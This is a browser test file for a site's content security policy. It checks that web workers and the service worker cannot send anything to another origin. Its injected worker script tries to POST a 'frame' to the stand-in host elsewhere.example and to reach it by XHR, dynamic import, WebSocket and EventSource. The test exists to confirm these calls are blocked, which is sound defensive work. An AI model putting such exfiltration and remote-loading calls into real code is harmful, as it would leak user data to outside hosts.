// The site's policy holds in its workers, on a host that sends no headers, too: what they send elsewhere is blocked.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { root } from '../../www/build/paths.mjs';
import { securityHeaders } from '../../www/build/security-policy.mjs';
import { engine } from '../support/engines/engine.mjs';
import { BARE_PAGE, openTracedSite } from '../support/engines/traced-site.mjs';
import { hasSettings } from '../support/engines/whole-visit.mjs';
import { waitUntil } from '../support/wait-until.mjs';

const ELSEWHERE = 'http://elsewhere.example/';
const NO_HEADERS = () => ({});
/** Tries every way out when the worker gets its first request; earlier, it would take the violation for that of a load. */
const ATTEMPTS = `
  addEventListener('message', ({ data }) => {
    if (data.type === 'load' || globalThis.hasTried) return;
    globalThis.hasTried = true;
    fetch('${ELSEWHERE}fetch', { method: 'POST', body: 'a frame', mode: 'no-cors' }).catch(() => {});
    if (globalThis.XMLHttpRequest) {
      const request = new XMLHttpRequest();
      request.open('GET', '${ELSEWHERE}xhr');
      request.send();
    }
    import('${ELSEWHERE}import').catch(() => {});
    try { new WebSocket('${ELSEWHERE.replace('http', 'ws')}socket'); } catch {}
    try { new EventSource('${ELSEWHERE}events'); } catch {}
  });`;

/** @typedef {Awaited<ReturnType<typeof openTracedSite>>} TracedSite */

/**
 * @param {Parameters<typeof openTracedSite>[0]} options
 * @param {(site: TracedSite) => Promise<void>} steps
 */
async function withSite(options, steps) {
  const site = await openTracedSite(options);
  try {
    await steps(site);
  } finally {
    await site.close();
  }
}

/** Waits until this many workers have tried. */
const waitForAttempts = (/** @type {TracedSite} */ { waitForTraces }, scope, count) =>
  waitForTraces((trace) => trace.scope === scope && trace.detail === `POST ${ELSEWHERE}fetch`, count);

/** Uses the recognizer's worker, and those for photos, contact sheets and videos, until each has tried. */
async function useWorkers(/** @type {TracedSite} */ site) {
  const { page, goto } = site;
  await goto('files.html');
  await waitUntil(page, hasSettings); // the last that the page makes ready
  await page.setFile('#files-input', join(root, 'tests/data/astronaut.png'));
  await waitUntil(page, () => document.querySelector('.tile[data-state="done"]') !== null);
  await page.click('#contact-sheet');
  await page.setFile('#files-input', join(root, 'www/site/live/samples/astronaut.mp4'));
  await waitForAttempts(site, 'worker', 4);
}

test(`${engine}: workers have the page's policy on a host that sends no headers`, () =>
  withSite({ headers: NO_HEADERS, inWorkers: ATTEMPTS }, async (site) => {
    await useWorkers(site);
    assert.deepEqual(site.elsewhere(), []);
  }));

test(`${engine}: the service worker has the policy of its host's headers`, () =>
  withSite({ headers: securityHeaders, inWorkers: ATTEMPTS }, async (site) => {
    await useWorkers(site);
    await site.page.evaluate(async () => {
      const { active } = await navigator.serviceWorker.ready;
      active?.postMessage({ type: 'try' });
    });
    await waitForAttempts(site, 'service worker', 1);
    assert.deepEqual(site.elsewhere(), []);
  }));

test(`${engine}: the service worker sends nothing elsewhere for a page that has no policy`, () =>
  withSite({ headers: NO_HEADERS }, async ({ page, goto, elsewhere, server }) => {
    await goto('index.html');
    await waitUntil(page, async () => {
      const { active } = await navigator.serviceWorker.ready;
      return active?.state === 'activated';
    });
    await goto(BARE_PAGE);
    await waitUntil(page, () => navigator.serviceWorker.controller !== null);
    await page.evaluate(async (/** @type {string} */ url) => {
      await fetch(`${url}get`).catch(() => {});
      await fetch(`${url}post`, { method: 'POST', body: 'a frame', mode: 'no-cors' }).catch(() => {});
    }, ELSEWHERE);
    // The browser itself has sent them, as for every page without a policy.
    assert.deepEqual(elsewhere(), [`GET ${ELSEWHERE}get`, `POST ${ELSEWHERE}post`]);
    const scopes = server.traces.filter(({ detail }) => detail.includes(ELSEWHERE)).map(({ scope }) => scope);
    assert.deepEqual(scopes, ['page', 'page']);
  }));
